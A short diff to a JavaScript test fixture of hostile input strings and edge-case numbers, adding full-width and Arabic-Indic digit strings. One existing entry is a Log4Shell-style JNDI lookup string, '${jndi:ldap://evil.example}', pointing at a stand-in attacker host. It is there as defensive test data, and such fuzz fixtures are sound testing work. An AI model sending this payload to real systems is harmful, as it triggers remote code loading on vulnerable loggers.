@@ -32,6 +32,11 @@ export const hostileTexts = [
   '{}',
   '[]',
   '\\x',
+  // Digits of another width, which patterns may take for digits and numbers do not.
+  '２０１８-０５-０１',
+  '１２３',
+  '٣٤٥',
+  '+６５９１２３４５６７',
   '${jndi:ldap://evil.example}',
 ];
 const hostileNumbers = [0, -1, 1, 0.5, 2_147_483_648, -2_147_483_649, 9.3e18, 1e300, -0, 1e-300];
